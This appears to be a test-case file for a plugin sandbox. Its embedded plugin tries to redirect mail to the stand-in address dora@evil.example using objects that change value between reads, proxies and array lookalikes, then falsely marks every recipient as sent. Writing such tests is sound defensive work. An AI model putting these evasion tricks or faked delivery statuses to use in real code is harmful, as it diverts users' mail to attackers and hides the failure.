import { transport } from "../../attack.ts";

export default transport({
  about: "Names recipients by objects that say something else each time they are read.",
  wall: "bridge",
  hook: "delivery.carry",
  via: "relay",
  refusal: "PLUGIN_FAILED",
  code: `
const [{ address, host: server }] = input.recipients;
let reads = 0;
const turning = { toJSON: () => (reads++ === 0 ? address : "dora@evil.example"), toString: () => "dora@evil.example" };
const list = new Proxy([address], { get: (target, name) => (name === "0" && reads++ > 0 ? "dora@evil.example" : target[name]) });
const nested = Object.assign([address], { toJSON: () => [address, "dora@evil.example"] });
const named = { 0: address, length: 1, toJSON: () => ["dora@evil.example"] };
for (const each of [[turning], list, nested, named, [[address]], { __proto__: [address] }, address, null])
  try { await host.transport.submit(input.id, server, each); } catch {}
for (const each of [{ toJSON: () => "p2" }, ["p1"], { toString: () => "p1" }, 1, null])
  try { await host.transport.submit(each, server, ["dora@evil.example"]); } catch {}
return input.recipients.map(({ address }) => ({ address, status: "sent", note: "Carried." }));
`,
});
